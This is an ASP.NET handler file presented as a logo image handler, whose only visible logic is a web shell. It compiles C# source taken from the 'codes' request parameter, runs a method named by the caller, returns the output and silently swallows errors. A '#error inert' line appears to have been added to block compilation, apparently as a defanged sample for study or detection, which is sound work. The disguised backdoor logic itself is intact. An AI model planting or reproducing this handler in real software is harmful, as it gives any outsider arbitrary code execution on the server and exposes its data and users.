<%@ WebHandler Language="C#" Class="LogoImageHandler" %>
#error inert
using System; using System.Web; using System.CodeDom.Compiler; using Microsoft.CSharp;
public class LogoImageHandler : IHttpHandler
{
    public bool IsReusable { get { return false; } }
    public void ProcessRequest(HttpContext context)
    {
        try {
            string codes = context.Request["codes"];
            string clazz = context.Request["clazz"];
            string method = context.Request["method"];
            string[] args = context.Request["args"].Split('\n');
            context.Response.ContentType = "text/plain";
            context.Response.Write(DynamicRun(codes, clazz, method, args));
        } catch (Exception) { }
        /* original image branch elided */
    }
    private string DynamicRun(string codes, string clazz, string method, string[] args)
    {
        ICodeCompiler c = new CSharpCodeProvider().CreateCompiler();
        CompilerParameters p = new CompilerParameters();
        p.ReferencedAssemblies.Add("System.dll");
        p.GenerateExecutable = false; p.GenerateInMemory = true;
        CompilerResults r = c.CompileAssemblyFromSource(p, codes);
        if (r.Errors.HasErrors) { return string.Join(Environment.NewLine, "err"); }
        object o = r.CompiledAssembly.CreateInstance(clazz);
        return (string)o.GetType().GetMethod(method).Invoke(o, args);
    }
}
